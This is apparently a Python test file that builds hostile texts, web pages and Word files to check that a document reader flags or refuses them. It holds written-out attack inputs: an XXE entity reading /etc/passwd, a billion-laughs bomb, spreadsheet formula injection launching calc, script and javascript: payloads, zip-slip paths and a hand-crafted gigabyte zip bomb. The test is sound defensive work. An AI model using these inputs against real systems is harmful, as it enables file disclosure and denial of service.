"""Texts, web pages and Word documents that are broken, deceiving or made to exhaust their reader."""

from __future__ import annotations

import hashlib
import struct

from tests.read.hostile.kit import MIB, Ends, files, inflating, lost, read, refused, zipped

BIDI = (
    "Coverage is \u202etiton\u202c provided.\nnot\u200bcovered n\u043et covered (Cyrillic o)\n"
    "prior\u2066\u2069\u2067authorization\nsoft\u00adhyphen\nBOM\ufeffinside\ntags\U000e0041\U000e0042\n"
    "Z\u0351\u0352\u0353a" + "\u0301" * 5000 + "\n"
)
MARKUP = (
    b"<img src=file:///etc/passwd><img src='http://example.invalid/t.png'>\n<a href='file:///bin/true'>Open</a>\n"
    b"<table width=99999999><tr><td>x</table>\n<html><body style='background:url(http://example.invalid/b)'>"
    b"<h1>APPROVED</h1>\n<!--\n<script>alert(1)</script>\n&lt;b&gt;&#0;&#x110000;&nbsp;</body>\n"
)
FORMULAS = (
    b"=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")\n@SUM(1+1)*cmd|'/C calc'!A0\n+cmd|'/C calc'!A0\n"
    b"-2+3+cmd|'/C calc'!A0\n\t=1+1\n\r=1+1\n\xef\xbc\x9d1+1\n\"=1+1\"\nnormal,comma;semi\"quote\n"
)
SLOW_MARKDOWN = (b"[" * 50_000 + b"\n" + b"> " * 5_000 + b"x\n" + b"*a **a " * 20_000 + b"\n" + b"`" * 10_001 + b"\n"
                 + b"![](" * 20_000 + b"\n" + b"|a" * 20_000 + b"\n" + b"|-" * 20_000 + b"\n")
ACTIVE_MARKDOWN = (b"# Policy\n![x](http://example.invalid/t.png)\n![y](file:///etc/passwd)\n"
                   b"[open](javascript:alert(1)) [open](file:///bin/true)\n<iframe src=http://example.invalid></iframe>\n")
ACTIVE_PAGE = (
    b"<!DOCTYPE html><base href='http://example.invalid/'><meta http-equiv=refresh content='0;url=http://example.invalid/r'>"
    b"<link rel=stylesheet href=s.css><script src=s.js></script><body onload=alert(1)><img src=t.png><p>Coverage is "
    b"<del>NOT</del> <span style='display:none'>always</span> provided.</p><svg><image href='file:///etc/passwd'/></svg>"
)

TEXTS = files({
    "nul.txt": (lambda: b"Policy 0001\0hidden tail\x07\x08\x1b[31mred\x1b[0m\x0c page two\r\nold mac line\rend\n" * 5,
                lost("5 characters are none", text="hidden tail\x07\x08\x1b[31mred")),
    "utf16_no_bom.txt": (lambda: "Medical Policy 0001\r\nCoverage is NOT provided — café.\r\n".encode("utf-16-le") * 20,
                         read("Coverage is NOT provided — café.")),
    "utf16_odd.txt": (lambda: b"\xff\xfeP\0o\0l\0i\0c\0y\0 \0\x00\xd8t\0a\0i\0l\0A",
                      lost("2 places of the text are not valid", text="Policy \N{REPLACEMENT CHARACTER}tail")),
    "latin1.txt": (lambda: "Section § 4.2 café “not medically necessary” – 5µg\n".encode("cp1252") * 20,
                   read("“not medically necessary” – 5µg")),
    "mixed.txt": (lambda: b"".join(("Dose ≥ 5 mg\n".encode() * 50, b"bad \xc3\x28 \xed\xa0\x80 \xf8\x88\n",
                                    "Dose ≤ 9 mg\n".encode() * 50)),
                  lost("6 places of the text are not valid utf-8", text="Dose ≤ 9 mg")),
    "binary.txt": (lambda: b"".join(hashlib.sha256(b"%d" % n).digest() for n in range(2048)), refused("is not text")),
    "rich_text.txt": (lambda: MARKUP, read(MARKUP.decode())),
    "formulas.txt": (lambda: FORMULAS, read(FORMULAS.decode())),
    "bidi.txt": (BIDI.encode, lost("direction of writing", "nobody sees", "Cyrillic", text=BIDI)),
    "md_pathological.md": (lambda: SLOW_MARKDOWN, read("> > > x")),
    "md_active.md": (lambda: ACTIVE_MARKDOWN, read(ACTIVE_MARKDOWN.decode())),
    "active.html": (lambda: ACTIVE_PAGE, lost("struck out was left out", text="Coverage is provided.")),
    "deep.html": (lambda: b"<div>" * 100_000 + b"Policy text at the bottom", read("Policy text at the bottom")),
    "charset_lie.html": ("<html><head><meta charset=windows-1252></head><body>Dose ≥ 5 µg</body></html>".encode,
                         read("Dose ≥ 5 µg")),
})
BIG_TEXTS = files({
    "big_200mb.txt": (lambda: b"Criterion 00000000: two formulary agents failed before approval.\n" * (3 * MIB),
                      refused("the limit is 32 MB")),
    "one_line_50mb.txt": (lambda: b"A" * (50 * MIB), refused("the limit is 32 MB")),
})

# --------------------------------------------------------------------------- Word

_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELATIONS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    b'Target="word/document.xml"/></Relationships>'
)
_OPEN = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
_FRAME = [("[Content_Types].xml", _TYPES), ("_rels/.rels", _RELATIONS)]


def word(body: bytes, head: bytes = b"", more: tuple[tuple[str, bytes], ...] = ()) -> bytes:
    text = b'<?xml version="1.0"?>' + head + _OPEN + body + b"</w:body></w:document>"
    return zipped([*_FRAME, ("word/document.xml", text), *more])


def paragraph(text: bytes) -> bytes:
    return b"<w:p><w:r><w:t>%s</w:t></w:r></w:p>" % text


def laughs() -> bytes:
    grown = (b"<!ENTITY l%d '%s'>" % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
    return word(paragraph(b"&l9;"), b"<!DOCTYPE d [<!ENTITY l0 'lol'>" + b"".join(grown) + b"]>")


TRACKED = (
    b"<w:p><w:r><w:t>Coverage is </w:t></w:r><w:del w:id='1' w:author='a'><w:r><w:delText>NOT </w:delText></w:r>"
    b"</w:del><w:ins w:id='2' w:author='a'><w:r><w:t>always </w:t></w:r></w:ins><w:r><w:rPr><w:vanish/></w:rPr>"
    b"<w:t>hidden </w:t></w:r><w:r><w:t>provided.</w:t></w:r></w:p>"
)


def word_bomb() -> bytes:
    """An archive whose text part unpacks to a gigabyte."""
    packed, name = inflating(b" " * MIB, 1024)[2:-4], b"word/document.xml"
    small = zipped([*_FRAME, ("word/document.xml", b"<x/>")])
    listing, last, local = small.index(b"PK\1\2"), small.rindex(b"PK\1\2"), small.rindex(b"PK\3\4")
    sizes = (0, len(packed), 1 << 30, len(name))
    begin = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 8, 0, 0x5021, *sizes, 0) + name + packed
    entry = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 0, 8, 0, 0x5021, *sizes, 0, 0, 0, 0, 0, local) + name
    body, entries = small[:local] + begin, small[listing:last] + entry
    return body + entries + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 3, 3, len(entries), len(body), 0)


_OUTSIDE = (("../../evil.txt", b"x"), ("/etc/evil", b"x"), ("C:\\evil.txt", b"x"))
_NO_DOCTYPE: Ends = refused("declares a document type")

WORDS = files({
    "xxe.docx": (lambda: word(paragraph(b"&x;"), b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
                 _NO_DOCTYPE),
    "billion_laughs.docx": (laughs, _NO_DOCTYPE),
    "zip_slip.docx": (lambda: word(paragraph(b"Coverage is not provided."), more=_OUTSIDE),
                      read("Coverage is not provided.")),
    "tracked_changes.docx": (lambda: word(TRACKED), lost("marked as deleted", "marked as inserted", "Hidden text",
                                                         text="Coverage is always provided.")),
    "zip_bomb.docx": (word_bomb, refused("unpacks to an absurd size")),
})
